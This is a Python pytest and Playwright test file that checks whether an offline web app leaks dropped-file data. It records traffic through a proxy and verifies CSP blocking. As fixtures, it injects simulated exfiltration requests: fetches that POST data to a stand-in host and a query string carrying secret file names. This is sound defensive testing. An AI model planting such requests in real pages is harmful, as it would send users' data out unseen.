"""Nothing that was dropped leaves the browser: every byte that does passes a proxy here, and is looked through."""

import re
from collections.abc import Iterator, Sequence
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, expect

from .conftest import Visits, chromium_with
from .pictures import CHESTS, TREE
from .serving import Passed, Served, Wire, recording_proxy
from .visiting import Visit

SECRET = "Mustermann4711"
"""In the names of the dropped files."""
# Which rule of the policy stopped the request; null where none did.
PLANT = """address => new Promise(done => {
    addEventListener("securitypolicyviolation", event => done(event.effectiveDirective));
    fetch(address, {method: "POST", body: "pixels", mode: "no-cors"}).catch(() => null);
    setTimeout(done, 30000, null);
})"""
PREFERENCES = {"pocketcxr.language", "pocketcxr.theme", "pocketcxr.single-keys"}
ELSEWHERE = "http://elsewhere.test/planted"
OF_CHROMIUM = re.compile(
    r"CONNECT [\w.-]+\.(google|googleapis)\.com:443|POST http://update\.googleapis\.com/service/update2/.*"
)
"""Where the browser itself looks for accounts and parts of its own, whatever page is open; the second where the first
is refused. That no page does, its log shows."""


@pytest.fixture(scope="module")
def wire(server: Served) -> Iterator[Wire]:
    """What the browser of this file's tests speaks through."""
    with recording_proxy(server.url) as recorder:
        yield recorder


@pytest.fixture(scope="module")
def chromium(site: Path, wire: Wire) -> Iterator[Browser]:
    """A browser that reaches nothing but through the wire, its own machine included."""
    with chromium_with(proxy={"server": wire.url, "bypass": "<-loopback>"}) as browser:
        yield browser


def passed_by(wire: Wire) -> list[Passed]:
    """What passed the wire but for the browser's own affairs."""
    return [one for one in wire.passed if not OF_CHROMIUM.fullmatch(f"{one.method} {one.url}")]


def check_silence(passed: Sequence[Passed], site: str, version: str) -> None:
    """That these requests only ask for files of the site, and tell nothing by it."""
    for request in passed:
        parts = urlsplit(request.url)
        assert f"{parts.scheme}://{parts.netloc}/" == site, request.url
        assert request.method in {"GET", "HEAD"}, request.url
        assert request.num_body_bytes == 0, request.url
        assert parts.query in {"", f"version={version}"}, request.url
        assert SECRET.encode() not in request.raw + request.url.encode()
        assert b"cookie:" not in request.raw.lower()


def use(guest: Visit, files: dict[str, Path], folder: Path) -> None:
    """All that can be done with files: dropped, scored, refused, overridden, saved as CSV."""
    named = []
    for place, name in enumerate((*CHESTS, TREE)):
        named.append(folder / f"{SECRET} {place}{Path(name).suffix}")
        named[-1].write_bytes(files[name].read_bytes())
    guest.score(*named)
    guest.select(named[-1].name)
    guest.page.get_by_role("button", name="Score it anyway").click()
    expect(guest.see("remark-override")).to_be_visible()
    guest.see("language").select_option("de")
    guest.see("theme").click()
    with guest.page.expect_download() as download:
        guest.see("export").click()
    assert SECRET in Path(download.value.path()).read_text(encoding="utf-8")


@pytest.mark.parametrize("workers", ["allow", "block"])
def test_no_request_carries_anything_away(
    visit: Visits, server: Served, wire: Wire, files: dict[str, Path], tmp_path: Path, workers: str
) -> None:
    wire.passed.clear()
    guest = visit(service_workers=workers).open(server.url)
    if workers == "allow":
        expect(guest.see("connection")).to_have_text("Works offline")
    before = len(passed_by(wire))
    use(guest, files, tmp_path)
    precache = guest.page.evaluate("fetch('precache.json').then(answer => answer.json())")
    passed = passed_by(wire)
    check_silence(passed, server.url, precache["version"])
    known = {"", "service-worker.js", "precache.json", *(file["url"] for file in precache["files"])}
    asked = [urlsplit(request.url).path.removeprefix("/") for request in passed]
    assert set(asked) <= known
    assert {"main.js", "worker.js", "bundle/card.json", "ort-wasm-simd-threaded.wasm"} <= set(asked)
    # With files at hand only decoders are fetched, and where all is stored not even those.
    # The browser looks by itself whether the service worker has changed.
    later = set(asked[before:]) - {"precache.json", "service-worker.js"}
    assert all(re.fullmatch(r"parts/.*\.js|\w+_decode\.wasm", path) for path in later), later
    assert bool(later) == (workers == "block")
    # The browser's own log of the page, its workers and its service worker.
    assert len(guest.requests) >= len(set(asked))
    for request in guest.requests:
        assert request.url.startswith((server.url, f"blob:{server.url}"))
        assert (request.method, request.post_data) == ("GET", None)


def test_the_browser_keeps_preferences_and_the_site_alone(
    visit: Visits, server: Served, files: dict[str, Path], tmp_path: Path
) -> None:
    guest = visit(service_workers="allow").open(server.url)
    expect(guest.see("connection")).to_have_text("Works offline")
    use(guest, files, tmp_path)
    assert guest.context.cookies() == []
    assert set(guest.page.evaluate("Object.keys(localStorage)")) <= PREFERENCES
    assert guest.page.evaluate("Object.keys(sessionStorage)") == []
    assert guest.page.evaluate("indexedDB.databases()") == []
    stored = guest.page.evaluate(
        """async () => {
            const caught = [];
            for (const name of await caches.keys()) caught.push(...await (await caches.open(name)).keys());
            return caught.map(request => request.url);
        }"""
    )
    listed = guest.page.evaluate("fetch('precache.json').then(answer => answer.json())")
    assert set(stored) == {server.url + file["url"] for file in listed["files"]}
    assert guest.page.evaluate("navigator.storage.getDirectory().then(root => root.keys().next())")["done"]


@pytest.mark.parametrize("place", ["page", "worker"])
def test_a_planted_request_to_another_origin_is_stopped(visit: Visits, server: Served, wire: Wire, place: str) -> None:
    guest = visit().open(server.url)
    planted = guest.page if place == "page" else guest.page.workers[0]
    guest.expected.append("violates the (document's|following) Content Security Policy")
    wire.passed.clear()
    assert planted.evaluate(PLANT, ELSEWHERE) == "connect-src"
    assert passed_by(wire) == []


def test_the_check_can_fail(visit: Visits, server: Served, wire: Wire) -> None:
    guest = visit(bypass_csp=True).open(server.url)
    guest.expected.extend(["ERR_BLOCKED_BY_RESPONSE", "status of (405|502)"])
    plants = {
        "elsewhere": f"fetch('{ELSEWHERE}', {{mode: 'no-cors'}}).catch(() => null)",
        "body": "fetch('index.html', {method: 'POST', body: 'pixels'}).catch(() => null)",
        "name": f"fetch('site.json?{SECRET}').catch(() => null)",
    }
    for script in plants.values():
        wire.passed.clear()
        guest.page.evaluate(script)
        passed = passed_by(wire)
        assert len(passed) == 1
        with pytest.raises(AssertionError):
            check_silence(passed, server.url, "")
